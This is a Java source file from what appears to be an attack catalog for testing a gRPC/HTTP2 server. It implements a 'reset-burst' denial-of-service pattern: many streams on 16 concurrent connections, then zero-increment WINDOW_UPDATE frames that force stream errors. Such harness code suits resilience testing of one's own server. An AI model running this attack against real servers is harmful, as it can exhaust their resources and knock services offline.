package dev.sluice.attacks.catalog;

import dev.sluice.attacks.wire.Frame;
import dev.sluice.attacks.wire.Grpc;
import dev.sluice.attacks.wire.Http2;
import java.io.ByteArrayOutputStream;
import java.io.IOException;

/**
 * Begins so many calls at once that the connection has to wait for its turn, and sends errors for
 * which the server closes it in that turn, with small frames between them.
 */
final class ResetBurst extends Attack {
  private static final int CALLS = 80;
  private static final int CONNECTIONS_AT_ONCE = 16;

  ResetBurst() {
    super("reset-burst", Family.FRAMES, Access.NO_KEY, Bounds.of(2_000, 64, 8));
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    attempt.repeat(CONNECTIONS_AT_ONCE, () -> burst(attempt));
  }

  private static void burst(Attempt attempt) throws IOException {
    byte[] headers = Grpc.headers(Grpc.ENQUEUE, "");
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    try (Http2 connection = attempt.grpc()) {
      for (int i = 0; i < CALLS; i++) {
        int stream = connection.newStream();
        all.writeBytes(new Frame(Frame.HEADERS, Frame.END_HEADERS, stream, headers).encode());
      }
      for (int stream = 1; stream < 2 * CALLS; stream += 2) {
        // A window must not grow by nothing.
        all.writeBytes(Frame.ofInt(Frame.WINDOW_UPDATE, stream, 0).encode());
        all.writeBytes(new Frame(Frame.DATA, 0, stream, new byte[1]).encode());
      }
      connection.send(all.toByteArray());
      while (attempt.isRunning()) {
        connection.read();
      }
    }
  }
}
